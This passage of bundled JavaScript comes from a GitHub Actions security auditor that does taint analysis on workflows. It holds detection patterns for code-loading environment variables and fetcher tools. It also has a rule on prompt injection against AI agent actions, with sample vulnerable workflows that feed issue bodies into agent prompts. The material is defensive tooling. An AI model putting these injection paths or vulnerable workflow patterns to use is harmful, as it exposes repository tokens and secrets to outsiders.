    shell: { becomes: 'is part of the command that reads the scripts', harm: runtime_commands },
    entrypoint: { becomes: 'names the program that the container starts', harm: runtime_commands },
    script: { becomes: 'is part of the script that the container runs', harm: runtime_commands },
    args: { becomes: 'is taken apart into arguments of the container', harm: 'gives it arguments of their own' },
    variable: { becomes: 'is a variable by which the programs of this step load code', harm: runtime_commands },
    environment: {
        becomes: 'names the environment of this job',
        harm: 'chooses which protection it goes through and which secrets it is given',
    },
    runner: { becomes: 'names the runner of this job', harm: 'chooses the machine that it runs on, one of your own among them' },
};
/** Variables that make a shell, a linker or an interpreter load code. */
const loading = /^(?:BASH_ENV|ENV|LD_PRELOAD|LD_LIBRARY_PATH|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|RUBYOPT|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|PROMPT_COMMAND|JAVA_TOOL_OPTIONS)$/i;
/** @param first of the job's steps. */
function runtimeOfJob(first) {
    const run = first.job;
    if (run === undefined)
        return [];
    const { job } = run;
    const scope = scopeOfJob(run);
    const before = {
        ...first,
        step: { ...first.step, if: undefined, env: [], map: job.map },
        parent: undefined,
        file: run.within.file,
        order: 0,
    };
    return partsOf(entriesOfJob(job), scope, before);
}
function entriesOfJob({ container, services, defaults, workflow, environment, runsOn, env }) {
    return [
        [imageOf(container), roles.image, 0],
        [container?.options, roles.options, 0],
        ...services.flatMap((service) => [
            [imageOf(service), roles.serviceImage, 1],
            [service.options, roles.serviceOptions, 1],
        ]),
        [defaults.shell ?? workflow.defaults.shell, roles.shell, 0],
        [environment?.name, roles.environment, 2],
        ...(runsOn?.labels ?? []).map((label) => [label, roles.runner, 2]),
        ...loadingOf(env),
    ];
}
/** `container: name`, or its `image`. */

function loadingOf(env) {
    return env.flatMap(({ name, scalar }) => (loading.test(name) ? [[scalar, roles.variable, 0]] : []));
}

function runtimeOfStep(run) {
    const { step, inner } = run;
    // Most steps say nothing of the kind.
    if (step.shell === undefined && step.env.length === 0 && inner === undefined && step.uses?.target.kind !== 'image')
        return [];
    const scope = scopeOfStep(run);
    const found = partsOf([[step.shell, roles.shell, 0], ...loadingOf(step.env)], scope, run);
    if (step.uses?.target.kind === 'image')
        found.push(...partsOf(ofContainer(step), scope, run));
    if (inner?.document.kind !== 'action' || inner.document.runs.kind !== 'docker')
        return found;
    // An action that is an image: what its file says is worked out with what the step hands over.
    const { args, entrypoint } = inner.document.runs;
    const within = { ...run, file: inner, parent: run, inner: undefined };
    const code = args.filter((_, index) => isCodeOption(args[index - 1]?.text));
    return [
        ...found,
        ...partsOf([[entrypoint, roles.entrypoint, 0], ...code.map((scalar) => [scalar, roles.script, 0])], scopeOfStep(within), within),
    ];
}
function ofContainer(step) {
    const args = (0,parts/* inputOf */.wg)(step, 'args')?.scalar;
    const script = args !== undefined && /(?:^|\s)-[a-z]*c\s/.test(args.text.split('${{', 1)[0] ?? '');
    return [
        [(0,parts/* inputOf */.wg)(step, 'entrypoint')?.scalar, roles.entrypoint, 0],
        [args, script ? roles.script : roles.args, script ? 0 : 1],
    ];
}
function isCodeOption(text) {
    return text !== undefined && /^-[a-z]*c$/.test(text);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/taint/flows.js
// Every way in which what somebody else controls comes to a place that does harm with it, over all runs of a repository. What is found
// for the same place by several callers is told once, as the worst of them.

























const tooManyCalls = 'more calls of reusable workflows and actions than are gone through';
const flows_known = new WeakMap();
const loose = new WeakMap();
/** @param all also of jobs that only people with rights get to. */
function analysisOf(repository, all) {
    const before = flows_known.get(repository);
    if (before !== undefined)
        return before;
    const runs = (0,graph_runs.runsOf)(repository);
    if (runs.cut)
        repository.incomplete(tooManyCalls);
    const { evaluate, foreign } = evaluation(repository);
    let byFile;
    const analysis = {
        runs,
        evaluator: evaluate,
        foreign,
        flowsIn(path) {
            byFile ??= collected(runs.jobs.flatMap(({ steps }) => steps), evaluate, foreign, all, repository);
            return byFile.get(path) ?? [];
        },
    };
    flows_known.set(repository, analysis);
    return analysis;
}
/**
 * Flows in the file of a context; of a composite action that nobody uses, or that is there for other repositories, with whatever a caller
 * may hand over.
 */
function flowsOf({ repository, file, document, settings }) {
    const analysis = analysisOf(repository, settings.persona !== 'regular');
    const used = document.kind !== 'action' || analysis.runs.used.has(file.path);
    const own = used ? analysis.flowsIn(file.path) : [];
    if (document.kind !== 'action' || (used && !isPublished(file.path)))
        return own;
    const open = openFlows({ repository, file, document });
    return own.length === 0 ? open : worstOf([...own, ...open]);
}
/** Actions under `.github` are the repository's own; what its workflows hand to any other is but an example. */
function isPublished(path) {
    return !/(?:^|\/)\.github\//.test(path);
}
/** Of a composite action as anybody may use it. */
function openFlows({ repository, file, document }) {
    const all = loose.get(repository) ?? new Map();
    loose.set(repository, all);
    const before = all.get(file.path);
    if (before !== undefined)
        return before;
    const { evaluate, foreign } = evaluation(repository);
    const { steps, cut } = (0,graph_runs/* looseSteps */.i)(repository, { file, document });
    if (cut)
        repository.incomplete(tooManyCalls);
    // What lies in the actions that it uses is told of them.
    const own = steps.filter((run) => run.file.file.path === file.path);
    const found = collected(own, evaluate, foreign, true, repository).get(file.path) ?? [];
    all.set(file.path, found);
    return found;
}
function evaluation(repository) {
    const foreign = foreignFiles(() => evaluate);
    const evaluate = evaluator((run) => [...foreign.before(run), ...ownOf(run, foreign).map(({ entry }) => entry)].map(({ taint }) => taint), () => repository.incomplete('values that come over more hops, or from more uploads, than are followed'));
    return { evaluate, foreign };
}
/** Each place once. */
function worstOf(flows) {
    const best = new Map();
    for (const flow of flows) {
        const key = `${flow.path} ${flow.kind} ${flow.at.start} ${flow.at.end}`;
        const before = best.get(key);
        if (before === undefined || (0,severity/* bySeverity */.Np)(flow.severity, before.severity) < 0)
            best.set(key, flow);
    }
    return [...best.values()].sort((a, b) => a.at.start - b.at.start);
}
/** @param all also what only people with rights can do. */
function collected(steps, evaluate, foreign, all, repository) {
    const found = [...runtimes(steps, evaluate, all)];
    const mayBring = bringing(evaluate, foreign);
    for (const run of steps) {
        if (mayHoldTemplate(run.step))
            found.push(...templates(run, evaluate));
        // What those with rights hand to programs is told to the pedantic only: most jobs are out of everybody else's reach.
        if (!all && !isExposed(run.job))
            continue;
        const brings = mayBring(run);
        if (brings)
            found.push(...scripts(run, evaluate));
        if (brings || mayRunOwn(run))
            found.push(...ownScripts(run, evaluate, repository));
        found.push(...flows_files(run, foreign, repository), ...publications(run, foreign), ...remoteBuilds(run, evaluate), ...remoteRuns(run, evaluate));
        if ((0,step_script/* stepScript */.M)(run.step)?.facts.cut === true)
            repository.unread(run.file, run.step.map.at, 'what its script does with values is more than is gone through');
    }
    const byFile = new Map();
    for (const flow of worstOf(found)) {
        const list = byFile.get(flow.path);
        if (list === undefined)
            byFile.set(flow.path, [flow]);
        else
            list.push(flow);
    }
    return byFile;
}
const exposed = new WeakMap();
/** Whether an outsider may get to a job, asked at each of its steps. */
function isExposed(job) {
    if (job === undefined)
        return false;
    const before = exposed.get(job);
    if (before !== undefined)
        return before;
    const made = job.within.openCall || (0,graph_reach.eventsOf)(job).some((event) => (0,graph_reach.reachOfJob)(job, event) !== 'never' || (lookupEvents.has(event) && looksUp(job)));
    exposed.set(job, made);
    return made;
}
/** Whether a job asks GitHub for what people wrote. */
function looksUp({ steps }) {
    return steps.some(({ step }) => lookupWords.test((step.run ?? (0,parts/* inputOf */.wg)(step, 'script')?.scalar)?.text ?? ''));
}
const foreignKinds = new Set(['checkout', 'execution', 'artifact-execution', 'publication']);
/** The worst of the taints as a flow; undefined where nobody outside gets there. */
function flowTo(run, taints, { kind, at, what, message, template, role, less, contained, byBranch }) {
    let found;
    for (const taint of taints) {
        const judged = judge(taint, run, foreignKinds.has(kind) ? 'code' : 'text');
        if (judged !== undefined && (found === undefined || (0,severity/* bySeverity */.Np)(judged.severity, found.judged.severity) < 0))
            found = { taint, judged };
    }
    if (found === undefined)
        return undefined;
    const { taint, judged } = found;
    return {
        kind,
        path: run.file.file.path,
        at,
        statement: run.step.map.at,
        step: run.step,
        what,
        taint,
        judged,
        severity: less === true ? lower(judged.severity) : judged.severity,
        steps: [...taint.steps, { file: run.file.file, at, message }],
        run,
        ...(template === undefined ? {} : { template }),
        ...(role === undefined ? {} : { role }),
        ...(contained === undefined ? {} : { contained }),
        ...(byBranch === undefined ? {} : { byBranch }),
    };
}
/** What jobs and steps run in, where an expression says so. */
function* runtimes(steps, evaluate, all) {
    const jobs = new Set();
    for (const run of steps) {
        if (!all && !isExposed(run.job))
            continue;
        const own = runtimeOfStep(run);
        // What a job says holds for all of its steps: it is judged once, before the first.
        if (run.job !== undefined && !jobs.has(run.job))
            own.push(...runtimeOfJob(run));
        if (run.job !== undefined)
            jobs.add(run.job);
        for (const { scalar, run: within, scope, role, degrees } of own) {
            const taints = evaluate.ofScalar(scalar, scope).filter(({ source }) => source.text && (degrees < 2 || source.writer === 'outsider'));
            const flow = flowTo(within, taints, {
                kind: 'runtime',
                at: scalar.at,
                what: scalar.text.trim(),
                message: `it ${role.becomes}`,
                role,
            });
            if (flow !== undefined)
                yield { ...flow, severity: loweredBy(flow.severity, degrees) };
        }
    }
}
function loweredBy(severity, degrees) {
    let found = severity;
    for (let i = 0; i < degrees; i++)
        found = lower(found);
    return found;
}
/** Most steps have no code with an expression in it. */
function mayHoldTemplate({ run, uses }) {
    if (run !== undefined)
        return run.text.includes('${{');
    return uses?.target.kind === 'repository' && takesCode(uses.target.slug);
}
/** Expressions that are put into code before it is read. */
function* templates(run, evaluate) {
    for (const { scalar, input } of codeOf(run.step)) {
        if (!scalar.text.includes('${{'))
            continue;
        const text = (0,scalar_text/* scalarText */.w)(run.file.file.text, scalar);
        const data = isJavaScript(run.step, input) ? jsonValues(scalar.text) : undefined;
        for (const [index, { inner, text: own }] of (0,find/* expressionsIn */.l)(scalar.text).entries()) {
            const tree = (0,parse/* parseExpression */.YK)(own);
            if (tree.kind === 'mistake' || data?.has(index) === true)
                continue;
            const taints = evaluate
                .ofTree(tree, scalar, inner.start, scopeOfStep(run))
                .filter(({ source, inert }) => source.text && inert !== true);
            const at = text.spanOf(inner.start + tree.span.start, inner.start + tree.span.end);
            const flow = flowTo(run, taints, {
                kind: 'template',
                at,
                what: own.trim(),
                message: 'it becomes part of the script before that is read',
                template: { scalar, index, input },
            });
            if (flow !== undefined)
                yield flow;
        }
    }
}
function isJavaScript({ uses }, input) {
    return input !== undefined && uses?.target.kind === 'repository' && codeInput(uses.target.slug, input.toLowerCase()) === 'javascript';
}
/** Scalars of a step that are run as code. */
function codeOf(step) {
    if (step.run !== undefined)
        return [{ scalar: step.run, input: undefined }];
    const target = step.uses?.target;
    if (target?.kind !== 'repository')
        return [];
    if (!takesCode(target.slug))
        return [];
    return step.with.flatMap(({ name, scalar }) => scalar !== undefined && codeInput(target.slug, name.toLowerCase()) !== undefined ? [{ scalar, input: name }] : []);
}
/** What a script does with values of its environment. */
function* scripts(run, evaluate) {
    const script = (0,step_script/* stepScript */.M)(run.step);
    if (script === undefined)
        return;
    const sinks = scriptSinks(script.facts);
    if (sinks.length === 0)
        return;
    const text = (0,scalar_text/* scalarText */.w)(run.file.file.text, script.scalar);
    for (const { kind, parts, at, what, message, only, less } of sinks) {
        const taints = evaluate.ofParts(parts, script.scalar, run).filter(({ source, inLine, inert }) => {
            if (inert === true && kind === 'eval')
                return false;
            if (!source.text || source.lines)
                return source.text;
            return only === 'marks' ? mayEndAtMark(source) : only !== 'lines' && !(inLine === true && stays.has(kind));
        });
        const flow = flowTo(run, taints, { kind, at: text.spanOf(at.start, at.end), what, message, ...(less === undefined ? {} : { less }) });
        if (flow !== undefined)
            yield flow;
    }
}
/** Where a line that has a name keeps its value. */
const stays = new Set(['env', 'output']);
/** Checkouts of an outsider's code, and what runs it. */
function* flows_files(run, foreign, repository) {
    for (const { taint, kind } of foreign.of(run)) {
        if (kind !== 'checkout')
            continue;
        const at = run.step.uses?.scalar.at ?? taint.steps.at(-1)?.at ?? run.step.map.at;
        const flow = flowTo(run, [taint], { kind: 'checkout', at, what: taint.source.name, message: 'it lies in the workspace of this job' });
        if (flow !== undefined)
            yield { ...flow, steps: taint.steps };
    }
    const all = [...foreign.before(run).map((entry) => ({ entry, from: 0 })), ...ownOf(run, foreign)];
    if (all.length === 0)
        return;
    const every = executions(run);
    if (every.length > maxExecutions || foreign.isCut(run))
        repository.unread(run.file, run.step.map.at, 'more checkouts or more commands that run what lies there than are held against one another');
    const executed = every.slice(0, maxExecutions);
    for (const kind of ['checkout', 'artifact']) {
        const flow = flows_firstOf(executed, (execution) => {
            const here = all.filter(({ entry, from }) => entry.kind === kind && execution.from >= from && touches(run.step, execution, entry.path));
            const contained = kind === 'checkout' &&
                here.length > 0 &&
                buildsApart(run.step, here.map(({ entry }) => entry))
                ? { contained: true, less: true }
                : {};
            return flowTo(run, here.map(({ entry }) => entry.taint), {
                kind: kind === 'checkout' ? 'execution' : 'artifact-execution',
                at: execution.at,
                what: execution.what,
                message: `\`${execution.what}\` runs what lies there`,
                ...contained,
            });
        });
        if (flow !== undefined)
            yield flow;
    }
}
/**
 * What is published of an artifact that an outsider's run put up. Where a job lets a branch through by its name alone, it means to publish
 * what the repository has, though a fork's branch may have that name; where it lets everything through, a place of its own for each pull
 * request is what it is for.
 */
function* publications(run, foreign) {
    const entries = foreign.before(run).filter(({ kind }) => kind === 'artifact');
    if (entries.length === 0)
        return;
    const guarded = asksForBranch(run);
    for (const { at, what, publication } of publishedBy(run)) {
        if (!publication.live && !guarded)
            continue;
        const taken = entries.filter(({ path }) => takesFrom(publication, path, folderOf(run.step)?.text));
        const flow = flowTo(run, taken.map(({ taint }) => taint), { kind: 'publication', at, what, message: `\`${what}\` publishes what lies there`, ...(guarded ? { byBranch: true } : {}) });
        // It runs no command here.
        if (flow !== undefined)
            return yield { ...flow, severity: flow.severity === 'critical' ? 'high' : flow.severity };
    }
}
function publishedBy({ step, file }) {
    const { uses, run: script } = step;
    const byAction = publishedByAction(step);
    if (uses !== undefined && byAction !== undefined)
        return [{ at: uses.scalar.at, what: uses.text.split('@')[0] ?? '', publication: byAction }];
    if (script === undefined)
        return [];
    const text = (0,scalar_text/* scalarText */.w)(file.file.text, script);
    return ((0,step_script/* stepScript */.M)(step)?.facts.commands ?? []).slice(0, maxExecutions).flatMap((command) => {
        const publication = publishedByCommand(command, script.text.slice(0, command.at.end));
        const what = (script.text.slice(command.at.start, command.at.end).split('\n')[0] ?? '').slice(0, 80).replace(/[ \\]{1,20}$/, '');
        return publication === undefined ? [] : [{ at: text.spanOf(command.at.start, command.at.end), what, publication }];
    });
}
const branchAsked = /\bworkflow_run\.head_branch\s{0,5}==|==\s{0,5}github\.event\.workflow_run\.head_branch\b/i;
/** Whether the trigger, the job or the step lets the run before through by the name of its branch. */
function asksForBranch({ step, job }) {
    const trigger = job?.within.entry.triggers.find(({ name }) => name === 'workflow_run');
    if (trigger?.config?.entries.some(({ name }) => name === 'branches') === true)
        return true;
    return [step.if, job?.job.if, job?.within.caller?.job.if].some((condition) => branchAsked.test(condition?.text ?? ''));
}
/** Whether an image is built of files beside which no token lies, and the build is handed no secret: it can push what it likes, no more. */
function buildsApart(step, entries) {
    const target = step.uses?.target;
    if (target?.kind !== 'repository' || target.slug !== 'docker/build-push-action')
        return false;
    const hands = ['secrets', 'secret-envs', 'secret-files', 'build-args', 'build-contexts', 'ssh', 'allow'].some((input) => /secrets\.|token|password|secret|key|network|security/i.test((0,parts/* inputOf */.wg)(step, input)?.scalar?.text ?? ''));
    return !hands && entries.every(({ run }) => (0,parts/* inputText */.AN)(run.step, 'persist-credentials')?.trim() === 'false');
}
/** A context that an address names is fetched and built, without a checkout before it. */
function remoteBuilds(run, evaluate) {
    const target = run.step.uses?.target;
    if (target?.kind !== 'repository' || target.slug !== 'docker/build-push-action')
        return [];
    const context = (0,parts/* inputOf */.wg)(run.step, 'context')?.scalar;
    if (context === undefined || !/^(?:https?:|git@|git:|\$\{\{)/.test(context.text.trim()))
        return [];
    const taints = evaluate.ofScalar(context, scopeOfStep(run)).filter(({ source }) => source.code && source.writer === 'outsider');
    const flow = flowTo(run, taints, { kind: 'execution', at: context.at, what: target.slug, message: 'what it names is fetched and built' });
    return flow === undefined ? [] : [flow];
}
/** What the repository's own scripts do with what a step hands them. */
function* ownScripts(run, evaluate, repository) {
    const scalar = (0,step_script/* stepScript */.M)(run.step)?.scalar ?? run.step.uses?.scalar;
    if (scalar === undefined)
        return;
    const folder = folderOf(run.step)?.text ?? '';
    const text = (0,scalar_text/* scalarText */.w)(run.file.file.text, scalar);
    for (const { parts, at, what, message, file, command } of ownSinks(run, folder, repository)) {
        const taints = evaluate.ofParts(parts, scalar, run).filter(({ source, inert }) => source.text && inert !== true);
        const here = command === undefined ? scalar.at : text.spanOf(command.at.start, command.at.end);
        const flow = flowTo(run, taints, { kind: 'eval', at: here, what: `${what} in ${file.path}`, message: `it is handed to ${file.path}` });
        if (flow !== undefined)
            yield { ...flow, steps: [...flow.steps, { file, at, message }] };
    }
}
/** Whether a script may name a repository or a commit of somebody else's in an address. */
const mayFetchCode = /\$|github/;
/** Code that a command fetches by an address and runs at once, without a checkout before it. */
function* remoteRuns(run, evaluate) {
    const script = (0,step_script/* stepScript */.M)(run.step);
    if (script === undefined || !mayFetchCode.test(script.scalar.text) || !fetchers.test(script.scalar.text))
        return;
    const text = (0,scalar_text/* scalarText */.w)(run.file.file.text, script.scalar);
    const masked = (0,src_script/* maskedText */.$O)(script.scalar.text);
    for (const command of script.facts.commands) {
        const words = [...remoteWords(command), ...requestedCode(command, masked)];
        if (words.length === 0)
            continue;
        // A number names code as that of a pull request alone.
        const ofPull = words.some(({ value }) => /\bpull\//.test(value));
        const taints = evaluate
            .ofParts((0,taint_parts/* joined */.oR)(words.map(command.partsOf)), script.scalar, run)
            .filter(({ source }) => source.code && source.writer === 'outsider' && (ofPull || !/\bnumber$/.test(source.name)));
        const { start, end } = command.at;
        const what = (script.scalar.text.slice(start, end).split('\n')[0] ?? '').slice(0, 80);
        const message = 'what it names is fetched and run';
        const flow = flowTo(run, named(taints), { kind: 'execution', at: text.spanOf(start, end), what, message });
        if (flow !== undefined)
            yield flow;
    }
}
/** Programs that fetch code: most scripts call none of them. */
const fetchers = /\b(?:pip[\d.]{0,5}|pipx|uvx?|npm|npx|pnpm|pnpx|yarn|bunx?|go|cargo|deno|docker|podman|buildah|nix|kubectl|oc|helm|terraform|tofu|curl|wget)\b/;
/** With a repository of theirs a branch is theirs too; by itself its name leads to one of the repository's own. */
function named(taints) {
    const theirs = taints.filter(({ source }) => ofRepository.test(source.name));
    return theirs.length > 0 ? theirs : taints.map(weakened);
}
/** What the script of a step brings for the rest of that script. */
function ownOf(run, foreign) {
    return foreign.of(run).flatMap((entry) => (entry.from === undefined ? [] : [{ entry, from: entry.from }]));
}
/** One of a script says enough: the first that runs any of it. */
function flows_firstOf(all, find) {
    for (const one of all) {
        const found = find(one);
        if (found !== undefined)
            return found;
    }
    return undefined;
}
/** Commands of one script that are looked at. */
const maxExecutions = 200;
function executions(run) {
    const { step } = run;
    const { uses } = step;
    if (uses?.target.kind === 'local')
        return uses.target.self ? [] : [{ at: uses.scalar.at, what: uses.text, words: uses.text, from: 0 }];
    if (uses?.target.kind === 'repository' && uses.target.slug === 'actions/github-script')
        return [...requiredBy(run), ...startedBy(run, (0,parts/* inputOf */.wg)(step, 'script')?.scalar)];
    if (uses !== undefined)
        return executedByAction(step)
            ? [
                {
                    at: uses.scalar.at,
                    what: uses.text.split('@')[0] ?? '',
                    words: step.with.map(({ scalar }) => scalar?.text ?? '').join(' '),
                    from: 0,
                },
            ]
            : [];
    const script = step.run;
    if (script === undefined)
        return [];
    if (/^(?:python|node)$/.test((0,src_shell/* shellOf */.of)(step) ?? ''))
        return startedBy(run, script);
    const text = (0,scalar_text/* scalarText */.w)(run.file.file.text, script);
    const found = [];
    const named = namingFolders(script.text);
    for (const command of (0,step_script/* stepScript */.M)(step)?.facts.commands ?? []) {
        const what = executedBy(command, named);
        if (what !== undefined)
            found.push({
                at: text.spanOf(command.at.start, command.at.end),
                what: original(what, command, script.text),
                words: named.slice(0, command.at.end),
                from: command.at.start,
            });
    }
    return found;
}
/**
 * Whether a later step of the job runs what a checkout brought, as far as is known: an action of somebody else's, and a script that is not
 * read, may.
 */
function mayBeRun({ run, path, from, kind }) {
    // An artifact seldom holds what others' actions look for by themselves.
    const strangers = kind === 'checkout';
    return (run.job?.steps ?? []).some((later) => {
        if (later.order < run.order || (later.order === run.order && from === undefined))
            return false;
        const { step } = later;
        if (strangers && step.uses?.target.kind === 'image')
            return true;
        if (strangers && step.uses?.target.kind === 'repository' && !harmless.test(step.uses.target.slug) && !executedByAction(step))
            if (looksInto(step, path))
                return true;
        if (step.run !== undefined && !commandShells.has((0,src_shell/* shellOf */.of)(step)))
            return true;
        return executions(later).some((execution) => execution.from >= (later === run ? (from ?? 0) : 0) && touches(step, execution, path));
    });
}
/** Whether an action may look into a folder: it does into the workspace by itself, into another where an input names it, or may. */
function looksInto(step, path) {
    return (path === '' || step.with.some(({ scalar }) => scalar === undefined || scalar.text.includes(path) || namesAnything.test(scalar.text)));
}
/** An expression that is no token and nothing of the event. */
const namesAnything = /\$\{\{\s{0,20}(?:env|matrix|steps|needs|inputs|vars|format|github\.workspace)\b/;
/** Shells whose commands are read; a script of another language may load what lies there. */
const commandShells = new Set(['bash', 'pwsh', 'cmd']);
/** Actions of which it is known what they run of a checkout. */
const harmless = /^actions\//;
/** A module of the workspace that a script of actions/github-script loads. */
const loads = /\b(?:require|import)\(\s{0,20}(["'`])((?:\.{1,2}\/|\$\{(?:process\.env\.)?GITHUB_WORKSPACE\}\/|\$\{\{\s{0,5}github\.workspace\s{0,5}\}\}\/)[^"'`\n]{1,200})\1/i;
/** The same by a path that is put together. */
const loadsJoined = /\b(?:require|import)\(\s{0,20}(?:path\.(?:join|resolve)\(\s{0,20})?process\.env\.GITHUB_WORKSPACE\s{0,5}[+,]\s{0,5}(["'`])([^"'`\n]{1,200})\1/;
function requiredBy({ step, file }) {
    const scalar = (0,parts/* inputOf */.wg)(step, 'script')?.scalar;
    const match = scalar === undefined ? null : (loads.exec(scalar.text) ?? loadsJoined.exec(scalar.text));
    if (scalar === undefined || match === null)
        return [];
    const at = (0,scalar_text/* scalarText */.w)(file.file.text, scalar).spanOf(match.index, match.index + match[0].length);
    return [{ at, what: match[2], words: match[0], from: 0 }];
}
/** Calls by which scripts of JavaScript and Python start a program: `exec.exec('npm', ['ci'])`, `subprocess.run(["npm", "ci"])`. */
const starts = /\b(?:exec\.(?:exec|getExecOutput)|(?:child_process|childProcess|cp)\.(?:exec|spawn|execFile)|(?:exec|spawn|execFile)Sync|subprocess\.(?:run|call|check_call|check_output|Popen)|os\.system)\(\s{0,20}(?:(["'`])([^"'`\n]{1,300})\1(?:\s{0,5},\s{0,20}\[([^\]\n]{0,300})\])?|\[([^\]\n]{1,300})\])/g;
/** What such a script runs of what lies there, as far as it writes it letter by letter. */
function startedBy({ file }, scalar) {
    if (scalar === undefined)
        return [];
    const text = (0,scalar_text/* scalarText */.w)(file.file.text, scalar);
    return [...scalar.text.matchAll(starts)].slice(0, maxExecutions).flatMap((match) => {
        const [all, , line = '', ...lists] = match;
        const words = [...lists.join(',').matchAll(/(["'`])([^"'`\n]{1,200})\1/g)].map(([, , word = '']) => word);
        const script = [line, ...words].join(' ').trim();
        const at = text.spanOf(match.index, match.index + all.length);
        return (0,taint_script/* scriptFacts */.X)(script).commands.flatMap((command) => {
            const what = executedBy(command, script);
            return what === undefined ? [] : [{ at, what, words: script, from: match.index }];
        });
    });
}
function original(what, { at }, script) {
    return script.slice(at.start, Math.min(at.end, at.start + what.length)).split('\n')[0] ?? what;
}
/** Where a script runs, by its step, its job or its workflow. */
function folderOf({ workingDirectory, run, owner }) {
    if (workingDirectory !== undefined || run === undefined || owner.kind !== 'job')
        return workingDirectory;
    return owner.defaults.workingDirectory ?? owner.workflow.defaults.workingDirectory;
}
/** Whether what runs can be what lies at a path: at the root, all of it; in a folder, what is started in it or out of it. */
function touches(step, { words, what }, path) {
    // Out of the workspace nothing of it lies.
    const folder = folderOf(step);
    const isAlike = isTemporary(what) === isTemporary(path) || folder !== undefined;
    if (isTemporary(what) && !isTemporary(path))
        return false;
    if (path === '')
        return !flows_outside.test(what) || folder !== undefined || /\b(?:cd|pushd)\s/.test(words);
    const last = path.split('/').at(-1) ?? path;
    if (last.includes('}}') || last === '')
        return false;
    if (/(?:^|\s)\.\.\//.test(what))
        return false;
    if (folder?.text.includes(last) === true)
        return true;
    const mayName = /^[\w-]+$/.test(last) ? (text) => text.includes(last) : () => true;
    const inWords = mayName(words);
    if (!inWords && !mayName(what))
        return false;
    const { enters, runs } = namesFolder(last.replace(/[^\w-]/g, '.'));
    return (inWords && enters.test(words)) || (isAlike && runs.test(namingFolders(what)));
}
/** What is started out of the folder above, or there. */
const flows_outside = /^(?:(?:bash|sh|python3?|node|source|\.)\s["']?)?\.\.\/|\s(?:-C|--prefix|--cwd|--directory|--project-directory|--manifest-path)[ =]["']?\.\.\//;
/** How a script enters a folder, and how a command runs what lies in it. Made once for each: hundreds of checkouts meet hundreds of commands. */
const namesFolder = (0,remembered/* remembered */.H)((folder) => ({
    enters: new RegExp(`(?:cd|pushd|--prefix|-C|--directory|--cwd|--project-directory|--manifest-path|--rootdir)[ =]["']?(?:[^\\s;&|]{0,100}["'/}])?${folder}`),
    runs: new RegExp(`^(?:(?:bash|sh|python3?|node|source|\\.|pip3?|docker|uv|npm|ruby|npx|pnpx|bunx|uvx|pnpm|yarn|eslint|jest|mocha|vitest|pytest|rspec|tsx|ts-node|ansible-playbook)\\s(?:[\\w-]{1,20}\\s)?)?["']?(?:\\./|\\$\\{?(?:GITHUB_WORKSPACE|RUNNER_TEMP)\\}?["']?/{1,9}|/tmp/)?(?:[\\w-]{1,50}/)?${folder}(?:/|$|\\s)`),
}), 2000);

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/ai-agents.js
// Agents that read what outsiders write and hold tools, token and secrets.

















/** Facts: what the actions are known to do, November 2026; not held row by row against their documentation. */
const agents = {
    'anthropics/claude-code-action': {
        prompts: ['prompt', 'direct_prompt', 'override_prompt', 'custom_instructions', 'claude_args'],
        open: { input: 'allowed_non_write_users', all: /\*/ },
        opens: false,
    },
    'anthropics/claude-code-base-action': { prompts: ['prompt', 'system_prompt', 'append_system_prompt', 'claude_args'], opens: true },
    'openai/codex-action': { prompts: ['prompt'], open: { input: 'allow-users', all: /\*/ }, opens: false },
    'google-github-actions/run-gemini-cli': { prompts: ['prompt'], opens: true },
    'google-gemini/gemini-cli-action': { prompts: ['prompt'], opens: true },
    'qwenlm/qwen-code-action': { prompts: ['prompt'], opens: true },
    'actions/ai-inference': { prompts: ['prompt', 'system-prompt'], tools: 'enable-github-mcp', opens: true },
    'github/copilot-cli-action': { prompts: ['prompt'], opens: true },
    'continuedev/continue': { prompts: ['prompt'], opens: true },
    'sst/opencode': { prompts: ['prompt'], opens: false },
    'warpdotdev/oz-agent-action': { prompts: ['prompt'], opens: true },
};
function agentOf(step) {
    const target = step.uses?.target;
    if (target?.kind !== 'repository')
        return undefined;
    return (target.path === '' ? undefined : agents[`${target.slug}/${target.path.toLowerCase()}`]) ?? agents[target.slug];
}
/** Most files have none, and the runs of a repository are many. */
const hasAgent = (0,remembered/* rememberedOf */.M)((document) => (0,sites/* stepsIn */.FZ)(document).some((step) => agentOf(step) !== undefined || (step.run !== undefined && agentsByName.test(step.run.text))));
const references = [
    'https://www.aikido.dev/blog/promptpwnd-github-actions-ai-agents',
    'https://genai.owasp.org/llmrisk/llm01-prompt-injection/',
];
const aiPromptInjection = (0,src_rule/* audit */.s)({
    id: 'ai-prompt-injection',
    aliases: ['ai-action-prompt-injection'],
    severity: 'high',
    confidence: 'medium',
    title: 'An outsider writes part of an agent\u2019s prompt',
    why: 'The model does not tell instructions from data: the text can make it use its tools, the job\u2019s token and secrets for whoever wrote it.',
    remedy: 'Let the agent run with a token that only reads and without secrets, give it no tools that write, and start it for people with rights only.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references,
    on: ['file'],
    *check(_, context) {
        if (!hasAgent(context.document))
            return;
        const { runs, evaluator } = analysisOf(context.repository, context.settings.persona !== 'regular');
        const told = new Set();
        for (const run of runsInFile(runs, context.file.path)) {
            for (const { at, taints } of promptsIn(run, evaluator, context)) {
                const problem = told.has(at.start) ? undefined : promptProblem(run, at, taints(), context);
                if (problem === undefined)
                    continue;
                told.add(at.start);
                yield problem;
            }
        }
    },
    examples: {
        bad: [
            {
                text: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      issues: write\n    steps:\n      - uses: google-github-actions/run-gemini-cli@v0\n        with:\n          gemini_api_key: ${{ secrets.GEMINI_API_KEY }}\n          prompt: Label this issue. ${{ github.event.issue.body }}\n',
            },
            {
                text: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      issues: write\n    steps:\n      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: npx -y @anthropic-ai/claude-code -p "Label this issue. $BODY"\n',
            },
            {
                text: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      issues: write\n    steps:\n      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: echo "$BODY" | gemini --yolo\n',
            },
        ],
        good: [(0,example/* workflowExample */.ih)({ on: 'on: push' })],
    },
});
/** What the agents of a step read: inputs of an action, and what a script hands to a program. */
function promptsIn(run, evaluator, { textOf }) {
